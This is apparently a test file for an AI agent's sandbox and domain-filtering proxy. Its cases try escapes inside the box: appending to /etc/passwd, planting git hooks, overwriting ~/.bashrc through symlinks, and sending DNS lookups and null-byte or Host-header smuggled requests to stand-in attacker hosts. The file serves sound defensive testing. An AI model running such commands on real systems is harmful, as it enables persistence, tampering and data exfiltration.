import assert from "node:assert/strict";
import { execFileSync, spawn } from "node:child_process";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { createServer } from "node:http";
import { type AddressInfo, connect } from "node:net";
import { join } from "node:path";
import type { TestContext } from "node:test";
import { openDomainProxy } from "../../packages/runtime/src/workspace/box/domain-proxy.ts";
import { parseDomainRule } from "../../packages/runtime/src/workspace/box/domain-rules.ts";
import { detectSandbox } from "../../packages/runtime/src/workspace/detect-sandbox.ts";
import { createLocalWorkspace } from "../../packages/runtime/src/workspace/local.ts";
import { createSandboxedWorkspace, type SandboxOptions } from "../../packages/runtime/src/workspace/sandbox.ts";
import type { Workspace } from "../../packages/runtime/src/workspace/workspace.ts";
import { runIn } from "../support/sandbox-place.ts";
import { eventually, processesWith } from "../e2e/command.ts";
import { type CaseTable, type CaseTest, folderFor } from "./case-table.ts";

// Not below /tmp, which boxes do not show: what lies outside the project must be seen, and withstand.
const cache = join(process.env["OUTRIDER_ROOT"] ?? ".", ".cache");
const path = process.env["PATH"] ?? "/usr/bin:/bin";

export type Boxed = { workspace: Workspace; base: string; project: string; home: string };

export async function openBox(test: TestContext, sandbox: Partial<SandboxOptions> = {}, root?: string): Promise<Boxed> {
  mkdirSync(cache, { recursive: true });
  const base = root ?? realpathSync(mkdtempSync(join(cache, "case-")));
  const project = join(base, "project");
  const home = join(base, "home");
  for (const folder of [project, home]) mkdirSync(folder, { recursive: true });
  if (!root) {
    writeFileSync(join(home, ".bashrc"), "# mine\n");
    execFileSync("git", ["init", "-q", "-b", "main", project], { env: { PATH: path, HOME: home } });
  }
  const workspace = await openWorkspace(base, sandbox);
  test.after(async () => {
    await workspace.close();
    rmSync(base, { recursive: true, force: true });
  });
  return { workspace, base, project, home };
}

function openWorkspace(base: string, sandbox: Partial<SandboxOptions>): Promise<Workspace> {
  const home = join(base, "home");
  const env = { PATH: path, HOME: home };
  const overflowDirectory = join(base, "overflow");
  return createSandboxedWorkspace({
    sandbox: { mode: "require", ...sandbox },
    local: createLocalWorkspace({ root: join(base, "project"), env, overflowDirectory }),
    home,
    env,
    overflowDirectory,
    isPublicAddress: () => true,
  });
}

/** Only where there is a sandbox; else the case is skipped with the reason why there is none. */
const boxed =
  (run: (box: Boxed, test: TestContext) => Promise<void>, options: Partial<SandboxOptions> = {}): CaseTest =>
  async (_one, test) => {
    const found = await detectSandbox();
    if (!found.available) return test.skip(`no sandbox on this machine: ${found.reason}`);
    await run(await openBox(test, options), test);
  };

const fails = (script: string): CaseTest =>
  boxed(async ({ workspace }) => {
    const { output } = await runIn(workspace, `(${script}) && echo ESCAPED; true`);
    assert.doesNotMatch(output, /ESCAPED/);
  });

export const sandboxCases: CaseTable = {
  SB001: fails("echo x >> /etc/passwd"),
  SB002: boxed(async ({ workspace, project }) => {
    const before = readFileSync(join(project, ".git/config"), "utf8");
    const { output } = await runIn(workspace, "echo denied > .git/config && echo ESCAPED");
    assert.doesNotMatch(output, /ESCAPED/);
    assert.equal(readFileSync(join(project, ".git/config"), "utf8"), before);
  }),
  SB003: boxed(async ({ workspace, project }) => {
    for (const folder of [".agent", ".outrider", ".claude"])
      await runIn(workspace, `mkdir -p ${folder} && echo '{}' > ${folder}/settings.json`);
    assert.deepEqual(readdirSync(project), [".git"]);
  }),
  SB005: boxed(async ({ workspace, project }) => {
    const before = readFileSync(join(project, ".git/config"), "utf8");
    await runIn(workspace, "mv .git .git2; mkdir .git; echo x > .git/config");
    assert.deepEqual([readdirSync(project), readFileSync(join(project, ".git/config"), "utf8")], [[".git"], before]);
  }),
  SB006: boxed(async ({ workspace, project }) => {
    await runIn(workspace, "git init -q sub");
    const hooks = join(project, "sub/.git/hooks");
    const active = existsSync(hooks) ? readdirSync(hooks).filter((name) => !name.endsWith(".sample")) : [];
    const config = join(project, "sub/.git/config");
    const text = existsSync(config) ? readFileSync(config, "utf8") : "";
    assert.deepEqual(
      [active, /fsmonitor|hooksPath|sshCommand|pager|editor|textconv/i.test(text)],
      [[], false],
      "it runs nothing",
    );
  }),
  SB008: fails("getent hosts secret.evil.example || getent hosts example.com"),
  SB011: boxed(async ({ workspace }, test) => {
    let id: string | undefined;
    try {
      id = /\d+/.exec(execFileSync("ipcmk", ["-M", "64"], { encoding: "utf8" }))?.[0];
    } catch {
      return test.skip("there is no ipcmk on this machine");
    }
    test.after(() => execFileSync("ipcrm", ["-m", id ?? ""]));
    assert.doesNotMatch((await runIn(workspace, "ipcs -m")).output, /0x[0-9a-f]{8}/);
  }),
  SB012: boxed(async ({ workspace }) => {
    const { output } = await runIn(
      workspace,
      `kill -9 ${process.pid} && echo ESCAPED; [ -d /proc/${process.pid} ] && echo ESCAPED; true`,
    );
    assert.doesNotMatch(output, /ESCAPED/); // and this process is here to say so
  }),
  SB014: boxed(async ({ workspace }) => {
    const { output } = await runIn(workspace, "touch /x && echo ESCAPED", { cwd: "/" });
    assert.doesNotMatch(output, /ESCAPED/);
    assert.equal(existsSync("/x"), false);
  }),
  SB015: async (_one, test) => {
    const found = await detectSandbox();
    if (!found.available) return test.skip(`no sandbox on this machine: ${found.reason}`);
    mkdirSync(cache, { recursive: true });
    const base = realpathSync(mkdtempSync(join(cache, "case-")));
    mkdirSync(join(base, "home"));
    writeFileSync(join(base, "home/.bashrc"), "# mine\n");
    symlinkSync("home", join(base, "project"));
    const { workspace, home } = await openBox(test, {}, base);
    await runIn(workspace, "touch .bashrc; echo evil >> .bashrc; echo evil > .profile");
    assert.deepEqual([readFileSync(join(home, ".bashrc"), "utf8"), existsSync(join(home, ".profile"))], ["# mine\n", false]);
  },
  async SB016(_one, test) {
    const proxy = await openProxy(test, ["*.google.com"]);
    assert.equal(await proxy.socks("attacker.example\0.google.com"), "refused");
    assert.equal(await proxy.socks("attacker.example"), "refused");
    assert.deepEqual(proxy.looked, [], "nobody is asked for a name that is not on the list");
    assert.equal(await proxy.socks("www.google.com"), "granted");
  },
  async SB019(_one, test) {
    const proxy = await openProxy(test, ["github.com"]);
    const refusedAnswer = await proxy.http(
      `GET http://evil.example:${proxy.port}/ HTTP/1.1\r\nHost: github.com\r\nConnection: close\r\n\r\n`,
    );
    assert.match(refusedAnswer, /^HTTP\/1\.1 4\d\d/);
    assert.deepEqual([proxy.looked, proxy.hosts], [[], []]);
    const answer = await proxy.http(
      `GET http://github.com:${proxy.port}/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n`,
    );
    assert.ok(
      /^HTTP\/1\.1 4\d\d/.test(answer) || proxy.hosts.every((host) => host.startsWith("github.com")),
      `${answer} ${proxy.hosts}`,
    );
  },
  SB021() {
    const root = process.env["OUTRIDER_ROOT"] ?? process.cwd();
    const texts = ["SECURITY.md", "docs/sandbox.md", "docs/security.md", "README.md"].filter((name) =>
      existsSync(join(root, name)),
    );
    assert.ok(
      texts.some((name) => /domain fronting/i.test(readFileSync(join(root, name), "utf8"))),
      "SECURITY.md or docs/sandbox.md says that a listed host behind a shared front can hide another (domain fronting)",
    );
  },
  SB023: async (_one, test) => {
    const found = await detectSandbox();
    if (!found.available) return test.skip(`no sandbox on this machine: ${found.reason}`);
    mkdirSync(cache, { recursive: true });
    const base = realpathSync(mkdtempSync(join(cache, "case-")));
    mkdirSync(join(base, "home"));
    writeFileSync(join(base, "home/.bashrc"), "# mine\n");
    const { workspace, home } = await openBox(test, { allowWrite: [base] }, base);
    await runIn(workspace, "mkdir -p ~/sub && cd ~/sub && echo evil > ~/.bashrc");
    await runIn(workspace, "cd ~ && touch .zshrc");
    assert.deepEqual([readFileSync(join(home, ".bashrc"), "utf8"), existsSync(join(home, ".zshrc"))], ["# mine\n", false]);
  },
  SB024: boxed(async ({ workspace, project }) => {
    rmSync(join(project, ".git/hooks"), { recursive: true });
    mkdirSync(join(project, "my-hooks"));
    symlinkSync("../my-hooks", join(project, ".git/hooks"));
    const { output } = await runIn(workspace, "echo started; echo evil > .git/hooks/pre-commit; echo evil > my-hooks/pre-commit");
    assert.match(output, /^started/);
    assert.deepEqual(readdirSync(join(project, "my-hooks")), []);
  }),
  SB025: boxed(async ({ base, project }, test) => {
    const before = readdirSync(project);
    const mounts = readFileSync("/proc/self/mountinfo", "utf8");
    // The test file again, as the agent that is killed while its command runs.
    const child = spawn(process.execPath, [String(process.argv[1])], {
      env: { ...process.env, OUTRIDER_CASE_VICTIM: base, NODE_OPTIONS: "", NODE_TEST_CONTEXT: "" },
      stdio: "ignore",
    });
    test.after(() => child.kill("SIGKILL"));
    await eventually(() => existsSync(join(project, "started")), "the command runs");
    child.kill("SIGKILL");
    await eventually(() => processesWith("987653.5").length === 0, "the command ends with the agent");
    assert.deepEqual(readdirSync(project).sort(), [...before, "started"].sort());
    assert.equal(readFileSync("/proc/self/mountinfo", "utf8"), mounts);
  }),
};

/** The process that SB025 kills. */
export async function playVictim(base: string): Promise<void> {
  const workspace = await openWorkspace(base, {});
  await runIn(workspace, "touch started; sleep 987653.5");
}

type Proxy = {
  port: number;
  looked: string[];
  /** The `Host` headers that arrived behind the proxy. */
  hosts: string[];
  socks(host: string): Promise<"granted" | "refused">;
  http(request: string): Promise<string>;
};

/** The way out of a box, with a server behind it that stands for every host. */
async function openProxy(test: TestContext, domains: readonly string[]): Promise<Proxy> {
  const hosts: string[] = [];
  const looked: string[] = [];
  const server = createServer((request, response) => {
    hosts.push(request.headers.host ?? "");
    response.end("reached");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo; // it listens on a port
  const socketPath = join(folderFor(test), "proxy");
  const proxy = await openDomainProxy(socketPath, {
    rules: domains.map(parseDomainRule).map((rule) => ({ ...rule, port })),
    isAllowedAddress: () => true,
    lookup: async (host) => {
      looked.push(host);
      return [{ address: "127.0.0.1", family: 4 }];
    },
  });
  test.after(async () => {
    server.closeAllConnections();
    server.close();
    await proxy.close();
  });
  const talk = (
    first: Buffer | string,
    onData: (data: Buffer, say: (more: Buffer) => void) => string | undefined,
  ): Promise<string> =>
    new Promise((resolve) => {
      const socket = connect(socketPath, () => socket.write(first));
      socket.on("data", (data: Buffer) => {
        const end = onData(data, (more) => socket.write(more));
        if (end === undefined) return;
        resolve(end);
        socket.destroy();
      });
      socket.on("error", () => resolve("refused"));
      socket.on("close", () => resolve("refused"));
    });
  return {
    port,
    looked,
    hosts,
    async socks(host) {
      const name = Buffer.from(host, "latin1");
      const request = Buffer.concat([Buffer.from([5, 1, 0, 3, name.length]), name, Buffer.from([port >> 8, port & 255])]);
      let greeted = false;
      const answer = await talk(Buffer.from([5, 1, 0]), (data, say) => {
        if (greeted) return data[1] === 0 ? "granted" : "refused";
        greeted = true;
        say(request);
        return undefined;
      });
      return answer === "granted" ? "granted" : "refused";
    },
    async http(request) {
      return await talk(request, (data) => data.toString("latin1"));
    },
  };
}
